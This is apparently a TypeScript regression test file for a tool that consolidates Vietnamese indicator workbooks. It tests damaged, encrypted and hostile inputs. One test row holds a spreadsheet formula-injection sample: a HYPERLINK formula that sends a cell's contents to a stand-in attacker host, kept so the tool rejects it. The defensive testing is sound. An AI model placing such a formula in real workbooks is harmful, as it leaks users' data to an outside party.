/**
 * Regression tests named after what broke when hostile and broken inputs were first tried
 * (issue 6); each was found by the corpus or the properties and is kept here small and exact.
 */
import { crc32, deflateRawSync } from "node:zlib";
import { consolidate } from "../src/core/consolidate/consolidate";
import type { CellValue, WorkbookGrids } from "../src/core/grid";
import { formatIssue } from "../src/core/check/messages";
import { MAX_PARAM_LENGTH } from "../src/core/check/issues";
import { parsePeriod } from "../src/core/programme/period";
import { encryptXlsx } from "../scripts/corpus/encrypt";
import { readZip, writeZip } from "../scripts/corpus/zip";
import { DAMAGES, describeUnreadable, UnreadableWorkbookError } from "../src/core/check/unreadable";
import { unreadableSource } from "../src/core/consolidate/submissions";
import { readWorkbookBuffer } from "../src/xlsx/read";
import { writeWorkbookBuffer } from "../src/xlsx/write";
import { renderTemplate } from "../src/core/template/render";
import { unitForPeriod } from "../src/core/programme/units";
import { formulaFromInput, formulaProblems } from "./hostile-output";
import { build, bundle, check, indicatorCell, located, rowOf, setCell, setIndicator, sheetName } from "./helpers/build";

const PERIOD = "2025-H1";
const period = parsePeriod(PERIOD, bundle.periods);
const SNV = build("SNV", PERIOD, 3);
const IND = sheetName(SNV.spec, "indicators");
const COUNT = bundle.programme.indicators.find((i) => i.kind === "count" && rowOfOrUndefined(SNV.filled, i.code) !== undefined)?.code ?? "";

function rowOfOrUndefined(wb: WorkbookGrids, code: string): number | undefined {
  try {
    return rowOf(wb, IND, code);
  } catch {
    return undefined;
  }
}

/** The indicators sheet with one more row at the bottom. */
function withRow(wb: WorkbookGrids, cells: readonly CellValue[]): WorkbookGrids {
  const sheet = wb.sheets.find((s) => s.name === IND);
  const row = sheet?.values.length ?? 0;
  return cells.reduce<WorkbookGrids>((acc, v, col) => setCell(acc, IND, row, col, v), wb);
}

const consolidated = (wb: WorkbookGrids) =>
  consolidate([{ kind: "workbook", source: { label: "SNV.xlsx", file: "SNV.xlsx" }, grids: { ...wb, file: "SNV.xlsx" } }], bundle, period);

describe("regressions: hostile and broken inputs", () => {
  test("a repeated indicator row's value is counted as read and rejected (it was left out of rows.read)", () => {
    const row = rowOf(SNV.filled, IND, COUNT);
    const copy = [...(SNV.filled.sheets.find((s) => s.name === IND)?.values[row] ?? [])];
    copy[4] = 99_999;
    const before = consolidated(SNV.filled).rows;
    const after = consolidated(withRow(SNV.filled, copy)).rows;
    expect(after).toEqual({ read: before.read + 1, accepted: before.accepted, rejected: before.rejected + 1 });
  });

  test('a "Tổng cộng" row typed in column A is reported under that name, not as an empty label', () => {
    const wb = withRow(SNV.filled, ["Tổng cộng", null, null, null, 123_456]);
    const unknown = check(wb).filter((i) => i.code === "row_unknown");
    expect(unknown.map((i) => i.params["label"])).toEqual(["Tổng cộng"]);
  });

  test("another programme's template is not consolidated, even where its indicator codes are ours", () => {
    const withMarkers: WorkbookGrids = {
      ...SNV.filled,
      sheets: SNV.filled.sheets.map((s) => {
        const a1 = s.values[0]?.[0];
        return typeof a1 === "string"
          ? (setCell({ sheets: [s] }, s.name, 0, 0, a1.replace(/programme=[^;]*/, "programme=khac")).sheets[0] ?? s)
          : s;
      }),
    };
    const r = consolidated(withMarkers);
    expect(r.submissions.map((s) => s.status)).toEqual(["not_template"]);
    expect(r.contributions).toEqual([]);
    expect(r.issues.map((i) => i.code)).toContain("programme_mismatch");
  });

  test("a second sheet marked as the indicators sheet is reported, and the visible one is read (the first was read silently)", () => {
    const ind = SNV.filled.sheets.find((s) => s.name === IND);
    if (!ind) throw new Error("no indicators sheet");
    const oldCopy = { ...ind, name: "Chỉ tiêu (cũ)", hidden: true };
    const wb = { ...SNV.filled, sheets: [oldCopy, ...SNV.filled.sheets] };
    const edited = setIndicator(SNV, wb, COUNT, "value", 7);
    const issues = check(edited);
    expect(located(issues.filter((i) => i.code === "sheet_duplicate"))).toEqual(["sheet_duplicate@Chỉ tiêu (cũ)!"]);
    expect(issues.filter((i) => i.location.sheet === "Chỉ tiêu (cũ)" && i.code !== "sheet_duplicate")).toEqual([]);
    const used = consolidated(edited).contributions.find((c) => c.indicator === COUNT);
    expect(used).toMatchObject({ sheet: IND, value: 7 });
  });

  test("a cell longer than Excel's 32,767 characters is rejected at its cell; a message quotes at most 200 characters", () => {
    const wb = setIndicator(SNV, SNV.filled, COUNT, "value", "9".repeat(40_000));
    const issue = check(wb).find((i) => i.code === "text_too_long");
    expect(issue?.location.cell).toBe(indicatorCell(SNV, COUNT, "value"));
    expect(String(issue?.params["raw"]).length).toBeLessThanOrEqual(MAX_PARAM_LENGTH + 1);
    if (!issue) throw new Error("no text_too_long");
    expect(formatIssue(issue, "en")).toContain("40,000 characters");
  });

  test("the reader tells the core which rows a file hides (in the template, its key row only)", async () => {
    const unit = unitForPeriod(bundle.units, "SNV", period);
    const bytes = await writeWorkbookBuffer(renderTemplate(bundle, unit, period));
    const grids = await readWorkbookBuffer(bytes, "SNV.xlsx");
    // The template hides its key row; nothing else is hidden.
    expect(grids.sheets.map((s) => s.hiddenRows ?? [])).toEqual(grids.sheets.map(() => [0]));
  });

  test('a password-protected workbook says so (it was "Can\'t find end of central directory")', async () => {
    const unit = unitForPeriod(bundle.units, "SNV", period);
    const bytes = await writeWorkbookBuffer(renderTemplate(bundle, unit, period));
    const error = await readWorkbookBuffer(encryptXlsx(bytes, "cchc"), "SNV.xlsx").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(UnreadableWorkbookError);
    expect((error as UnreadableWorkbookError).problem.kind).toBe("encrypted");
  });

  test("a part that lies about its size is stopped at the size it declared, not unpacked", async () => {
    const unit = unitForPeriod(bundle.units, "SNV", period);
    const parts = readZip(await writeWorkbookBuffer(renderTemplate(bundle, unit, period)));
    const shrunk = writeZip(
      parts.map((p) =>
        p.name === "xl/sharedStrings.xml" ? { name: p.name, method: 8 as const, compressed: deflateRawSync(p.data), size: 10, crc: 0 } : p,
      ),
    );
    const error = await readWorkbookBuffer(shrunk).catch((e: unknown) => e);
    expect((error as UnreadableWorkbookError).problem).toEqual({
      kind: "size_mismatch",
      params: { part: "xl/sharedStrings.xml", declared: 10 },
    });
  });

  test("a damaged file is described in the message's language: the reader's findings are codes, worded per language (they were English in both)", async () => {
    const unit = unitForPeriod(bundle.units, "SNV", period);
    const parts = readZip(await writeWorkbookBuffer(renderTemplate(bundle, unit, period)));
    // One byte of the shared strings changed after their checksum was taken.
    const flipped = writeZip(
      parts.map((p) => {
        if (p.name !== "xl/sharedStrings.xml") return p;
        const data = Buffer.from(p.data);
        data[data.length - 2] = (data[data.length - 2] ?? 0) ^ 1;
        return { name: p.name, method: 0 as const, compressed: data, size: data.length, crc: crc32(p.data) };
      }),
    );
    const error = await readWorkbookBuffer(flipped).catch((e: unknown) => e);
    expect((error as UnreadableWorkbookError).problem).toEqual({
      kind: "corrupt",
      params: { damage: "checksum", part: "xl/sharedStrings.xml" },
    });
    const refused = consolidate([unreadableSource({ label: "x.xlsx", file: "x.xlsx" }, error)], bundle, period).issues.find(
      (i) => i.code === "file_unreadable",
    );
    expect(refused ? formatIssue(refused, "vi") : "").toContain("(phần xl/sharedStrings.xml sai mã kiểm tra (checksum))");
    expect(refused ? formatIssue(refused, "en") : "").toContain("(part xl/sharedStrings.xml fails its checksum)");
  });

  test.each(DAMAGES)("the damage %s is worded in both languages, every placeholder filled", (damage) => {
    const say = (lang: "vi" | "en") => describeUnreadable({ kind: "corrupt", params: { damage, part: "P", entry: 3, method: 12 } }, lang);
    for (const text of [say("vi"), say("en")]) expect(text).not.toMatch(/[{}]|undefined/);
    // The damage's own English words (those beyond the message around it) are not in the Vietnamese;
    // "checksum" is kept there beside its Vietnamese, as the term people search for.
    const words = (t: string) => new Set(t.toLowerCase().match(/[a-z]{4,}/g) ?? []);
    const around = words(describeUnreadable({ kind: "corrupt", params: { detail: "" } }, "en"));
    const own = [...words(say("en"))].filter((w) => !around.has(w));
    expect(own.length).toBeGreaterThan(0);
    expect(own.filter((w) => words(say("vi")).has(w) && w !== "checksum")).toEqual([]);
  });

  test.each([
    { formula: '=IF(F9="","",IF(F9>=G9,"Đạt","Chưa đạt"))', own: true },
    { formula: `=SUMIFS('Nguồn số liệu'!$I:$I,'Nguồn số liệu'!$B:$B,"0.01",'Nguồn số liệu'!$J:$J,1)`, own: true },
    { formula: "=1+1", own: false },
    { formula: "=+SUM(1,2)", own: false },
    { formula: "=SUM(A1:A2)", own: false },
    { formula: "=-2+3", own: false },
    { formula: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")', own: false },
    { formula: `=SUMIFS('=1+2'!$I:$I,'Nguồn số liệu'!$B:$B,"0.01")`, own: false },
  ])("the tests' allowlist of report formulas: $formula is the report's own: $own", ({ formula, own }) => {
    expect(formulaProblems(formula).length === 0).toBe(own);
    expect(formulaFromInput(formula, new Set(["+SUM(1,2)", "@SUM(A1:A2)", "=1+1"]))).toBe(
      ["=+SUM(1,2)", "=SUM(A1:A2)", "=1+1"].includes(formula),
    );
  });
});
